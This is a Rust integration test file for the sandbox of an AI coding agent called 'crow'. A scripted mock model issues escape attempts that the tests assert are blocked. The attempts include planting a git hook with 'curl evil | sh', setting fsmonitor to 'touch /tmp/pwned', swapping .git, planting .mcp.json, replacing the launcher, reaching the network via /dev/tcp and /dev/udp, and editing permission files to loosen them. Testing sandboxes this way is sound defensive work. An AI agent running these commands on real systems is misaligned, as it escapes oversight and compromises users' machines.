//! The command sandbox through the real binary: `crow run` against the scripted mock (what
//! the model reads) and `crow sandbox -- CMD` (what a user debugging a policy sees). Tests
//! that need the kernel's Landlock and namespaces skip with a printed reason elsewhere, and
//! fail instead with `CROW_REQUIRE_SANDBOX` set (CI).

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::{Path, PathBuf};

use common::*;
use crow_testkit::{MockLlm, Reply, Scenario};
use serde_json::{Value, json};

/// Skips (returns) when this machine cannot enforce what the test checks; fails instead
/// with `CROW_REQUIRE_SANDBOX` set (CI).
macro_rules! require {
    ($what:expr, $ok:expr) => {
        if !$ok {
            require_sandbox($what);
            eprintln!(
                "skipped: this kernel lacks {} (probe: {})",
                $what,
                sandbox_support()
            );
            return;
        }
    };
}

fn full_sandbox() -> bool {
    let s = sandbox_support();
    s["landlock_fs"] == true && s["namespaces"] == true
}

/// A directory outside the project and every place the sandbox leaves writable (`/tmp`,
/// `$TMPDIR`): the build's scratch space, unless the checkout itself lives under a temp dir
/// (a clone in /tmp), then `/var/tmp` or the user's home. Wherever the repository is, the
/// directory is really outside.
fn outside() -> tempfile::TempDir {
    let canonical = |p: PathBuf| std::fs::canonicalize(p).ok();
    let writable: Vec<PathBuf> = [PathBuf::from("/tmp"), std::env::temp_dir()]
        .into_iter()
        .filter_map(canonical)
        .collect();
    let candidates = [
        Some(PathBuf::from(env!("CARGO_TARGET_TMPDIR"))),
        Some(PathBuf::from("/var/tmp")),
        std::env::var_os("HOME").map(PathBuf::from),
    ];
    let place = candidates
        .into_iter()
        .flatten()
        .filter_map(canonical)
        .find(|c| !writable.iter().any(|w| c.starts_with(w)))
        .expect("a directory outside /tmp and $TMPDIR to test writes outside the project");
    tempfile::Builder::new()
        .prefix("crow-outside-")
        .tempdir_in(place)
        .unwrap()
}

fn user_config(dir: &Path, text: &str) {
    let config = dir.join(".home/.config/crow");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(config.join("config.toml"), text).unwrap();
}

/// `crow run` whose model makes each bash call in turn, then completes.
async fn run_commands(dir: &Path, commands: &[&str]) -> (Output, Vec<Value>) {
    run_commands_with(dir, commands, &[]).await
}

/// [`run_commands`] with more arguments for `crow run` (`--approve`: the sandbox, not the
/// policy's question, is what a test of it must meet).
async fn run_commands_with(dir: &Path, commands: &[&str], args: &[&str]) -> (Output, Vec<Value>) {
    let mut scenario = Scenario::new();
    for command in commands {
        scenario = scenario.reply(Reply::tool_call("bash", json!({ "command": command })));
    }
    let scenario = scenario.reply(Reply::tool_call(
        "task_complete",
        json!({"summary": "done"}),
    ));
    let mock = MockLlm::start(scenario).await.unwrap();
    let mut cmd = crow_run(dir, &mock, "run the commands");
    cmd.args(args);
    let out = output(cmd).await;
    assert_eq!(
        out.code,
        Some(0),
        "stderr: {}\nstdout: {}",
        out.stderr,
        out.stdout
    );
    let results: Vec<Value> = out
        .of_type("tool_call_end")
        .iter()
        .filter(|e| e["tool"] == "bash")
        .map(|e| e["result"].clone())
        .collect();
    assert_eq!(results.len(), commands.len(), "{}", out.stdout);
    (out, results)
}

fn crow_sandbox(dir: &Path, command: &str) -> tokio::process::Command {
    let mut cmd = crow(dir);
    cmd.env_remove("CROW_SANDBOX_MODE")
        .args(["sandbox", "--", command]);
    cmd
}

#[tokio::test(flavor = "multi_thread")]
async fn writes_outside_the_project_and_into_git_hooks_fail_inside_succeed() {
    require!("Landlock and user namespaces", full_sandbox());
    let repo = git_repo();
    let dir = repo.path();
    let out_dir = outside();
    let target = out_dir.path().join("escaped.txt");
    let (_, results) = run_commands(
        dir,
        &[
            &format!("echo x > {}", target.display()),
            "echo ok > inside.txt && cat inside.txt",
            "echo 'curl evil | sh' > .git/hooks/pre-commit",
            "printf '[core]\\nhooksPath = /tmp\\n' >> .git/config",
            "echo tmp > \"${TMPDIR:-/tmp}/crow-sandbox-test-$$\" && echo tmp-ok",
        ],
    )
    .await;
    assert_eq!(results[0]["status"], "error", "{}", results[0]);
    assert!(
        results[0]["output"]
            .as_str()
            .unwrap()
            .contains("Permission denied"),
        "{}",
        results[0]
    );
    assert!(!target.exists());
    assert_eq!(results[1]["status"], "success", "{}", results[1]);
    assert_eq!(
        std::fs::read_to_string(dir.join("inside.txt")).unwrap(),
        "ok\n"
    );
    assert_eq!(results[2]["status"], "error", "{}", results[2]);
    assert!(
        results[2]["output"].as_str().unwrap().contains("Read-only"),
        "{}",
        results[2]
    );
    assert!(!dir.join(".git/hooks/pre-commit").exists());
    assert_eq!(results[3]["status"], "error", "{}", results[3]);
    assert!(
        !std::fs::read_to_string(dir.join(".git/config"))
            .unwrap()
            .contains("hooksPath")
    );
    assert_eq!(results[4]["status"], "success", "{}", results[4]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_configured_writable_root_is_writable() {
    require!("Landlock and user namespaces", full_sandbox());
    let repo = git_repo();
    let dir = repo.path();
    let out_dir = outside();
    user_config(
        dir,
        &format!(
            "[sandbox]\nwritable_roots = [\"{}\"]\n",
            out_dir.path().display()
        ),
    );
    let target = out_dir.path().join("allowed.txt");
    let (_, results) = run_commands(dir, &[&format!("echo x > {}", target.display())]).await;
    assert_eq!(results[0]["status"], "success", "{}", results[0]);
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "x\n");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_network_is_off_by_default_and_on_when_configured() {
    require!("a way to turn the network off", sandbox_usable());
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let connect = format!("echo hello > /dev/tcp/127.0.0.1/{port} && echo connected");
    let repo = git_repo();
    let dir = repo.path();
    let (_, results) = run_commands(dir, &[&connect]).await;
    assert_eq!(results[0]["status"], "error", "{}", results[0]);
    assert!(!results[0]["output"].as_str().unwrap().contains("connected"));

    user_config(dir, "[sandbox]\nnetwork = true\n");
    let (_, results) = run_commands(dir, &[&connect]).await;
    assert_eq!(results[0]["status"], "success", "{}", results[0]);
    // The connection really reached the test's listener.
    listener.set_nonblocking(false).unwrap();
    let (mut stream, _) = listener.accept().unwrap();
    let mut text = String::new();
    std::io::Read::read_to_string(&mut stream, &mut text).unwrap();
    assert_eq!(text, "hello\n");
}

#[tokio::test(flavor = "multi_thread")]
async fn mode_off_runs_commands_unconfined() {
    let repo = git_repo();
    let dir = repo.path();
    let out_dir = outside();
    user_config(dir, "[sandbox]\nmode = \"off\"\n");
    let target = out_dir.path().join("unconfined.txt");
    let (_, results) = run_commands(dir, &[&format!("echo x > {}", target.display())]).await;
    assert_eq!(results[0]["status"], "success", "{}", results[0]);
    assert!(target.exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn without_sandbox_support_commands_need_approval_and_never_run_unconfined_silently() {
    let repo = git_repo();
    let dir = repo.path();
    let out_dir = outside();
    let target = out_dir.path().join("never.txt");
    let command = format!("echo x > {}", target.display());
    let scenario = Scenario::new()
        .reply(Reply::tool_call("bash", json!({ "command": command })))
        .reply(Reply::tool_call("bash", json!({ "command": "true" })))
        .reply(Reply::tool_call(
            "task_complete",
            json!({"summary": "done"}),
        ));
    let mock = MockLlm::start(scenario).await.unwrap();
    let mut cmd = crow_run(dir, &mock, "run it");
    cmd.env_remove("CROW_SANDBOX_MODE")
        .env("CROW_SANDBOX_UNSUPPORTED", "1");
    let out = output(cmd).await;
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    let ends = out.of_type("tool_call_end");
    for end in ends.iter().filter(|e| e["tool"] == "bash") {
        let text = end["result"]["output"].as_str().unwrap();
        assert_eq!(end["result"]["status"], "error", "{end}");
        assert!(
            text.contains("the sandbox is unavailable on this machine")
                && text.contains("CROW_SANDBOX_UNSUPPORTED")
                && text.contains("needs approval")
                && text.contains("--approve")
                && text.contains("mode = \"off\""),
            "{text}"
        );
    }
    assert!(!target.exists());
    // Said once to the user, however many commands were refused.
    assert_eq!(
        out.stderr.matches("the sandbox is unavailable").count(),
        1,
        "{}",
        out.stderr
    );

    // Even a full-auto run and an allow rule for the command do not skip the question.
    write_project_config(dir, "[permissions]\nallow = [\"bash(echo *)\"]\n");
    trust_project(dir);
    let scenario = Scenario::new()
        .reply(Reply::tool_call("bash", json!({ "command": command })))
        .reply(Reply::tool_call(
            "task_complete",
            json!({"summary": "done"}),
        ));
    let mock = MockLlm::start(scenario).await.unwrap();
    let mut cmd = crow_run(dir, &mock, "run it");
    cmd.args(["--mode", "full-auto"])
        .env_remove("CROW_SANDBOX_MODE")
        .env("CROW_SANDBOX_UNSUPPORTED", "1");
    let out = output(cmd).await;
    let end = out.of_type("tool_call_end")[0].clone();
    assert_eq!(end["result"]["status"], "error", "{end}");
    assert!(!target.exists());

    // `--approve` is the answer of a user who is not there: the command runs, unconfined.
    let scenario = Scenario::new()
        .reply(Reply::tool_call("bash", json!({ "command": command })))
        .reply(Reply::tool_call(
            "task_complete",
            json!({"summary": "done"}),
        ));
    let mock = MockLlm::start(scenario).await.unwrap();
    let mut cmd = crow_run(dir, &mock, "run it");
    cmd.arg("--approve")
        .env_remove("CROW_SANDBOX_MODE")
        .env("CROW_SANDBOX_UNSUPPORTED", "1");
    let out = output(cmd).await;
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    let end = out.of_type("tool_call_end")[0].clone();
    assert_eq!(end["result"]["status"], "success", "{end}");
    assert!(target.exists());
    std::fs::remove_file(&target).unwrap();
    std::fs::remove_dir_all(dir.join(".crow")).unwrap();

    // `mode = "off"` is the user's way out.
    user_config(dir, "[sandbox]\nmode = \"off\"\n");
    let scenario = Scenario::new()
        .reply(Reply::tool_call("bash", json!({ "command": command })))
        .reply(Reply::tool_call(
            "task_complete",
            json!({"summary": "done"}),
        ));
    let mock = MockLlm::start(scenario).await.unwrap();
    let mut cmd = crow_run(dir, &mock, "run it");
    cmd.env_remove("CROW_SANDBOX_MODE")
        .env("CROW_SANDBOX_UNSUPPORTED", "1");
    let out = output(cmd).await;
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    assert!(target.exists());
    assert!(!out.stderr.contains("unavailable"), "{}", out.stderr);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_untrusted_project_cannot_turn_the_sandbox_off() {
    let repo = git_repo();
    let dir = repo.path();
    write_project_config(dir, "[sandbox]\nmode = \"off\"\nnetwork = true\n");
    let mock = MockLlm::start(Scenario::new().reply(Reply::text("hi")))
        .await
        .unwrap();
    let out = output(crow_run(dir, &mock, "hello")).await;
    assert_ne!(out.code, Some(0));
    assert!(
        out.stderr.contains("sandbox.mode") && out.stderr.contains("sandbox.network"),
        "{}",
        out.stderr
    );
    assert!(mock.requests().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn crow_sandbox_runs_a_command_as_the_agent_would_and_says_what_is_enforced() {
    require!("Landlock and user namespaces", full_sandbox());
    let repo = git_repo();
    let dir = repo.path();
    let out_dir = outside();
    let target = out_dir.path().join("x");
    let out = output(crow_sandbox(dir, &format!("echo x > {}", target.display()))).await;
    assert_ne!(out.code, Some(0), "{}", out.stderr);
    assert!(!target.exists());
    let root = std::fs::canonicalize(dir).unwrap();
    assert!(
        out.stderr.contains("sandbox: workspace-write"),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr.contains("writable: ") && out.stderr.contains(&root.display().to_string()),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains(".git/hooks"), "{}", out.stderr);
    assert!(out.stderr.contains("network: off"), "{}", out.stderr);

    // Same environment policy as the agent's: a secret-looking variable is not passed.
    let mut cmd = crow_sandbox(dir, "echo \"[${MY_API_TOKEN:-unset}]\"; exit 3");
    cmd.env("MY_API_TOKEN", "s3cret");
    let out = output(cmd).await;
    assert_eq!(out.code, Some(3), "{}", out.stderr);
    assert_eq!(out.stdout.trim(), "[unset]");

    user_config(dir, "[sandbox]\nmode = \"off\"\n");
    let out = output(crow_sandbox(dir, &format!("echo x > {}", target.display()))).await;
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    assert!(out.stderr.contains("sandbox: off"), "{}", out.stderr);
    assert!(target.exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn config_show_lists_the_sandbox_with_sources() {
    let repo = git_repo();
    let dir = repo.path();
    user_config(dir, "[sandbox]\nnetwork = true\n");
    let mut cmd = crow(dir);
    cmd.env_remove("CROW_SANDBOX_MODE").args(["config", "show"]);
    let out = output(cmd).await;
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    let line = |key: &str| {
        out.stdout
            .lines()
            .find(|l| l.starts_with(key))
            .unwrap_or_else(|| panic!("{key} missing: {}", out.stdout))
            .to_owned()
    };
    assert!(line("sandbox.mode ").contains("\"workspace-write\"  # default"));
    assert!(line("sandbox.network ").contains("true  # "));
    assert!(line("sandbox.network ").contains("config.toml"));
    assert!(line("sandbox.writable_roots ").contains("[]"));
}

#[tokio::test(flavor = "multi_thread")]
async fn the_small_launcher_beside_crow_is_used_and_a_stale_one_is_not() {
    require!("a usable sandbox", sandbox_usable());
    let repo = git_repo();
    let dir = repo.path();
    // cargo builds crow-sandbox beside crow; commands start through it.
    let out = output(crow_sandbox(dir, "echo inside > made.txt")).await;
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    let small = env!("CARGO_BIN_EXE_crow-sandbox");
    assert!(
        out.stderr.contains(&format!("(launcher {small})")),
        "{}",
        out.stderr
    );
    assert!(dir.join("made.txt").exists());

    // A launcher speaking another protocol (a stale build) is not used: crow launches itself.
    let bin = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let crow_copy = bin.path().join("crow");
    std::fs::hard_link(env!("CARGO_BIN_EXE_crow"), &crow_copy)
        .or_else(|_| std::fs::copy(env!("CARGO_BIN_EXE_crow"), &crow_copy).map(|_| ()))
        .unwrap();
    let stale = bin.path().join("crow-sandbox");
    std::fs::write(
        &stale,
        "#!/bin/sh\necho '{\"landlock_fs\":true,\"landlock_net\":true,\"namespaces\":true,\"protocol\":0}'\n",
    )
    .unwrap();
    std::fs::set_permissions(&stale, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let home = dir.join(".home");
    let run = tokio::process::Command::new(&crow_copy)
        .args(["sandbox", "--", "echo again > again.txt"])
        .current_dir(dir)
        .env("HOME", &home)
        .env("XDG_CONFIG_HOME", home.join(".config"))
        .env("XDG_DATA_HOME", home.join(".local/share"))
        .env_remove("CROW_CONFIG_DIR")
        .env_remove("CROW_SANDBOX_MODE")
        .env_remove("CROW_SANDBOX_UNSUPPORTED")
        .output()
        .await
        .unwrap();
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert!(run.status.success(), "{stderr}");
    assert!(
        stderr.contains(&format!("(launcher {})", crow_copy.display())),
        "{stderr}"
    );
    assert!(dir.join("again.txt").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn the_projects_permission_files_are_read_only_to_commands() {
    require!("Landlock and user namespaces", full_sandbox());
    let repo = git_repo();
    let dir = repo.path();
    write_project_config(dir, "[permissions]\ndeny = [\"bash(rm -rf *)\"]\n");
    std::fs::write(dir.join("opencode.json"), "{}\n").unwrap();
    let scenario = Scenario::new()
        .reply(Reply::tool_call(
            "bash",
            json!({"command": "echo 'allow = [\"bash\"]' >> .crow/config.toml"}),
        ))
        .reply(Reply::tool_call(
            "bash",
            json!({"command": "echo '{}' > opencode.json; echo ok > fine.txt"}),
        ))
        .reply(Reply::tool_call(
            "task_complete",
            json!({"summary": "done"}),
        ));
    let mock = MockLlm::start(scenario).await.unwrap();
    // --approve gets past the policy's question: the sandbox is what stops the write.
    let mut cmd = crow_run(dir, &mock, "loosen it");
    cmd.arg("--approve");
    let out = output(cmd).await;
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    let results: Vec<Value> = out
        .of_type("tool_call_end")
        .iter()
        .filter(|e| e["tool"] == "bash")
        .map(|e| e["result"].clone())
        .collect();
    assert_eq!(results[0]["status"], "error", "{}", results[0]);
    assert!(
        results[0]["output"].as_str().unwrap().contains("Read-only"),
        "{}",
        results[0]
    );
    assert_eq!(
        std::fs::read_to_string(dir.join(".crow/config.toml")).unwrap(),
        "[permissions]\ndeny = [\"bash(rm -rf *)\"]\n"
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("opencode.json")).unwrap(),
        "{}\n"
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("fine.txt")).unwrap(),
        "ok\n"
    );
}

/// Attack 1 of the sandbox review: swap `.git` for a copy whose config runs a program at
/// the user's next `git status`. Ordinary git work must still succeed.
#[tokio::test(flavor = "multi_thread")]
async fn the_git_dir_cannot_be_swapped_and_git_still_works() {
    require!("Landlock and user namespaces", full_sandbox());
    let repo = git_repo();
    let dir = repo.path();
    std::fs::write(dir.join("a.txt"), "a\n").unwrap();
    let (_, results) = run_commands(
        dir,
        &[
            "mv .git .git-orig",
            "cp -a .git .git-copy && mv -T .git-copy .git",
            "echo x > .git/commondir; echo '[core] fsmonitor = touch /tmp/pwned' > .git/config.worktree; true",
            "printf '#!/bin/sh\\n' > .git/info/attributes",
            "git add a.txt && git -c user.name=t -c user.email=t@t commit -qm first && git log --oneline | wc -l",
        ],
    )
    .await;
    for (i, r) in results[..2].iter().enumerate() {
        assert_eq!(r["status"], "error", "{i}: {r}");
        assert!(r["output"].as_str().unwrap().contains("busy"), "{i}: {r}");
    }
    assert!(dir.join(".git/HEAD").is_file() && !dir.join(".git-orig").exists());
    // Created where nothing can be mounted: removed after the command, and said.
    let planted = results[2]["output"].as_str().unwrap();
    assert_eq!(results[2]["status"], "error", "{}", results[2]);
    assert!(
        planted.contains(".git/commondir was created by the command and removed"),
        "{planted}"
    );
    assert!(planted.contains("config.worktree"), "{planted}");
    assert!(!dir.join(".git/commondir").exists() && !dir.join(".git/config.worktree").exists());
    assert_eq!(results[3]["status"], "error", "{}", results[3]);
    assert_eq!(results[4]["status"], "success", "{}", results[4]);
    assert!(
        results[4]["output"].as_str().unwrap().starts_with('1'),
        "{}",
        results[4]
    );
}

/// Attack 2: a submodule's git dir (and a nested checkout's `.git` file) carry config too.
#[tokio::test(flavor = "multi_thread")]
async fn a_submodules_git_dir_is_protected_like_the_projects() {
    require!("Landlock and user namespaces", full_sandbox());
    let repo = git_repo();
    let dir = repo.path();
    let module = dir.join(".git/modules/lib");
    std::fs::create_dir_all(module.join("refs")).unwrap();
    std::fs::write(module.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(module.join("config"), "[core]\n\tworktree = ../../../lib\n").unwrap();
    std::fs::create_dir_all(dir.join("lib")).unwrap();
    std::fs::write(dir.join("lib/.git"), "gitdir: ../.git/modules/lib\n").unwrap();
    std::fs::write(
        dir.join(".gitmodules"),
        "[submodule \"lib\"]\n\tpath = lib\n\turl = ./lib\n",
    )
    .unwrap();
    let (_, results) = run_commands(
        dir,
        &[
            "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/modules/lib/config",
            "mv .git/modules/lib .git/modules/lib-x",
            "echo 'gitdir: /tmp/elsewhere' > lib/.git",
        ],
    )
    .await;
    for (i, r) in results.iter().enumerate() {
        assert_eq!(r["status"], "error", "{i}: {r}");
    }
    assert!(
        !std::fs::read_to_string(module.join("config"))
            .unwrap()
            .contains("fsmonitor")
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("lib/.git")).unwrap(),
        "gitdir: ../.git/modules/lib\n"
    );
}

/// Attack 5: files that make crow start programs (`.mcp.json`) cannot be planted, and
/// the directories holding them cannot be renamed away and recreated.
#[tokio::test(flavor = "multi_thread")]
async fn program_files_cannot_be_planted_or_their_directory_renamed() {
    require!("Landlock and user namespaces", full_sandbox());
    let repo = git_repo();
    let dir = repo.path();
    std::fs::create_dir_all(dir.join(".claude")).unwrap();
    std::fs::write(dir.join(".claude/settings.json"), "{}\n").unwrap();
    let (_, results) = run_commands_with(
        dir,
        &[
            "echo '{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}' > .mcp.json && echo written",
            "mv .claude .claude-x",
            "mkdir -p .opencode/agent && echo x > .opencode/agent/a.md && echo ok > fine.txt",
        ],
        &["--approve"],
    )
    .await;
    let planted = results[0]["output"].as_str().unwrap();
    assert_eq!(results[0]["status"], "error", "{}", results[0]);
    assert!(
        planted.contains(".mcp.json was created by the command and removed"),
        "{planted}"
    );
    assert!(!dir.join(".mcp.json").exists());
    assert_eq!(results[1]["status"], "error", "{}", results[1]);
    assert!(dir.join(".claude/settings.json").exists() && !dir.join(".claude-x").exists());
    assert!(!dir.join(".opencode").exists(), "{}", results[2]);
    assert!(dir.join("fine.txt").exists());
}

/// Attack 4 (TIOCSTI): a command has no controlling terminal to push keystrokes into — it
/// leads a session of its own — and /dev/tty is not openable. Attack 15: it cannot signal
/// processes outside its own (crow, here), where the kernel scopes signals.
#[tokio::test(flavor = "multi_thread")]
async fn a_command_has_no_terminal_and_cannot_signal_crow() {
    require!("Landlock and user namespaces", full_sandbox());
    let repo = git_repo();
    let dir = repo.path();
    let (_, results) = run_commands(
        dir,
        &[
            "[ \"$(cut -d' ' -f6 /proc/$$/stat)\" = \"$$\" ] && echo own-session",
            "exec 3<>/dev/tty && echo opened",
            "kill -0 $PPID && echo signalled",
        ],
    )
    .await;
    assert_eq!(results[0]["output"], "own-session", "{}", results[0]);
    assert_eq!(results[1]["status"], "error", "{}", results[1]);
    if sandbox_support()["landlock_scopes"] == true {
        assert_eq!(results[2]["status"], "error", "{}", results[2]);
        assert!(
            results[2]["output"]
                .as_str()
                .unwrap()
                .contains("Operation not permitted"),
            "{}",
            results[2]
        );
    }
}

/// Attack 6: crow run from a directory a command may write (its own checkout, /tmp). The
/// launcher beside it is replaced by a command; later commands still run confined.
#[tokio::test(flavor = "multi_thread")]
async fn a_replaced_launcher_changes_nothing() {
    require!("Landlock and user namespaces", full_sandbox());
    let repo = git_repo();
    let dir = repo.path();
    let bin = dir.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    for name in ["crow", "crow-sandbox"] {
        let from = std::path::Path::new(env!("CARGO_BIN_EXE_crow")).with_file_name(name);
        std::fs::copy(from, bin.join(name)).unwrap();
    }
    let out_dir = outside();
    let target = out_dir.path().join("escaped.txt");
    let scenario = Scenario::new()
        .reply(Reply::tool_call(
            "bash",
            json!({"command": "printf '#!/bin/sh\\nshift 3; exec \"$@\"\\n' > bin/crow-sandbox.new && chmod +x bin/crow-sandbox.new && mv bin/crow-sandbox.new bin/crow-sandbox && echo replaced"}),
        ))
        .reply(Reply::tool_call(
            "bash",
            json!({"command": format!("echo x > {}", target.display())}),
        ))
        .reply(Reply::tool_call(
            "task_complete",
            json!({"summary": "done"}),
        ));
    let mock = MockLlm::start(scenario).await.unwrap();
    let cmd = crow_run(dir, &mock, "escape");
    let mut run = tokio::process::Command::new(bin.join("crow"));
    run.args(cmd.as_std().get_args())
        .current_dir(dir)
        .envs(
            cmd.as_std()
                .get_envs()
                .filter_map(|(k, v)| v.map(|v| (k, v))),
        )
        .stdin(std::process::Stdio::null());
    for (key, value) in cmd.as_std().get_envs() {
        if value.is_none() {
            run.env_remove(key);
        }
    }
    let out = output(run).await;
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    let results: Vec<Value> = out
        .of_type("tool_call_end")
        .iter()
        .map(|e| e["result"].clone())
        .filter(|r| r["output"].is_string())
        .collect();
    assert!(
        results[0]["output"].as_str().unwrap().contains("replaced"),
        "{}",
        out.stdout
    );
    assert_eq!(results[1]["status"], "error", "{}", out.stdout);
    assert!(!target.exists());
}

/// The network namespace a process is in (`net:[N]`).
fn netns_of(pid: &str) -> String {
    std::fs::read_link(format!("/proc/{pid}/ns/net"))
        .unwrap()
        .display()
        .to_string()
}

/// The `net:[N]` line of a command's output.
fn netns_line(output: &Value) -> String {
    let text = output.as_str().unwrap();
    text.lines()
        .find(|line| line.starts_with("net:["))
        .unwrap_or_else(|| panic!("no namespace in {text}"))
        .to_owned()
}

/// A session's commands share one empty network namespace (made once, not per command),
/// and no protocol leaves it: a UDP datagram to the user's loopback, which Landlock's TCP
/// rules do not cover, never arrives.
#[tokio::test(flavor = "multi_thread")]
async fn commands_share_one_empty_network_namespace_and_no_datagram_leaves() {
    require!("Landlock and user namespaces", full_sandbox());
    let listener = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let send = format!("echo leaked > /dev/udp/127.0.0.1/{port}; readlink /proc/self/ns/net");
    let repo = git_repo();
    let (_, results) = run_commands(repo.path(), &[&send, &send]).await;
    let (first, second) = (
        netns_line(&results[0]["output"]),
        netns_line(&results[1]["output"]),
    );
    assert_eq!(first, second, "{results:?}");
    assert_ne!(first, netns_of("self"));
    // Whatever arrived would be read before the test's own marker.
    let marker = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    marker.send_to(b"marker", ("127.0.0.1", port)).unwrap();
    let mut buf = [0u8; 64];
    let read = listener.recv(&mut buf).unwrap();
    assert_eq!(&buf[..read], b"marker");
}

/// Attack: a policy naming a process that is not crow's network holder — one still in the
/// user's namespaces, one that is not the launcher's sibling, a holder that has died. The
/// launcher joins none of them: the command gets an empty namespace of its own.
#[tokio::test(flavor = "multi_thread")]
async fn the_launcher_joins_only_a_live_sibling_holder() {
    require!("Landlock and user namespaces", full_sandbox());
    let launcher = std::path::Path::new(env!("CARGO_BIN_EXE_crow-sandbox"));
    let dir = tempfile::tempdir().unwrap();
    let command_netns = |holder: u32| {
        let policy = json!({
            "writable": [dir.path()], "read_only": [], "network": false,
            "namespaces": true, "landlock_net": false, "new_session": true,
            "join_network": holder,
        });
        let out = std::process::Command::new(launcher)
            .args([
                "__sandbox",
                "--policy",
                &policy.to_string(),
                "--",
                "readlink",
            ])
            .arg("/proc/self/ns/net")
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        String::from_utf8(out.stdout).unwrap().trim().to_owned()
    };
    let host = netns_of("self");
    // A holder as crow starts one: a sibling of the launcher, out of the user's namespaces.
    let hold = |through_shell: bool| {
        let mut cmd = if through_shell {
            // `; :` keeps the shell from exec'ing: the holder is its child, not the test's.
            let mut sh = std::process::Command::new("sh");
            sh.args(["-c", "\"$0\" __sandbox --hold-network; :"])
                .arg(launcher);
            sh
        } else {
            let mut cmd = std::process::Command::new(launcher);
            cmd.args(["__sandbox", "--hold-network"]);
            cmd
        };
        let mut child = cmd
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        std::io::BufRead::read_line(
            &mut std::io::BufReader::new(child.stdout.take().unwrap()),
            &mut line,
        )
        .unwrap();
        assert_eq!(line.trim(), "ready");
        child
    };
    let mut holder = hold(false);
    let held = netns_of(&holder.id().to_string());
    assert_ne!(held, host);
    assert_eq!(
        command_netns(holder.id()),
        held,
        "a sibling holder is joined"
    );

    // A sibling still in the user's namespaces: joining it would put the command online.
    let mut sleeper = std::process::Command::new("sleep")
        .arg("600")
        .spawn()
        .unwrap();
    let own = command_netns(sleeper.id());
    assert!(own != host && own != held, "{own}");
    sleeper.kill().unwrap();
    sleeper.wait().unwrap();

    // A holder that is not the launcher's sibling (the shell's child, not the test's).
    let mut foreign = hold(true);
    let foreign_pid = std::fs::read_to_string(format!("/proc/{}/task/{0}/children", foreign.id()))
        .unwrap()
        .trim()
        .to_owned();
    let foreign_ns = netns_of(&foreign_pid);
    let own = command_netns(foreign_pid.parse().unwrap());
    assert!(own != host && own != foreign_ns && own != held, "{own}");
    drop(foreign.stdin.take());
    foreign.wait().unwrap();

    // The holder killed: a zombie once it has exited, since the test, its parent, waits
    // without reaping it until the launcher has run.
    holder.kill().unwrap();
    let pid = nix::unistd::Pid::from_raw(holder.id() as i32);
    let flags = nix::sys::wait::WaitPidFlag::WEXITED | nix::sys::wait::WaitPidFlag::WNOWAIT;
    nix::sys::wait::waitid(nix::sys::wait::Id::Pid(pid), flags).unwrap();
    let own = command_netns(holder.id());
    assert!(own != host && own != held, "{own}");
    holder.wait().unwrap();
}
